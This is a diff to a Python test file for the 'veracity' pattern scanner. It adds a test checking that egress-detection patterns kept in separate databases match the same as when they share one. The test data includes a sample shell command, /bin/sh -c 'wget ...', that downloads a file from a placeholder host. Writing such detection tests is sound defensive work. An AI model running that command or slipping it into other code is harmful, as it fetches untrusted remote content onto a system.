@@ -1,3 +1,4 @@
+from dataclasses import replace
 from pathlib import Path
 
 from veracity.patterns import MAX_PER_PATTERN, Pattern, PatternSet
@@ -18,6 +19,17 @@ def test_cap_per_pattern():
     ps = PatternSet([Pattern("X/a", b"abc")])
     matches, capped = ps.scan(b"abc " * 1000)
     assert len(matches) == MAX_PER_PATTERN and capped == ("X/a",)
+
+
+def test_patterns_in_databases_of_their_own_match_as_in_one():
+    from veracity.checks import registry
+
+    shared = [replace(p, database=0) for p in registry.patterns().patterns]
+    assert any(p.database for p in registry.patterns().patterns)  # the egress patterns use it
+    data = (b"see https://update.vendor.example/fw.bin or mail ops@vendor.example, 203.0.113.9 and fe80::1; "
+            b"/bin/sh -c 'wget http://x.example.cn/a' " + "h\x00t\x00t\x00p\x00:\x00/\x00/\x00".encode()) * 40
+    assert registry.patterns().scan(data) == PatternSet(shared).scan(data)
+    assert len(PatternSet([Pattern("A/x", b"abc"), Pattern("B/y", b"bcd", database=3)]).scan(b"abcd")[0]) == 2
 
 
 def test_duplicate_ids_rejected():
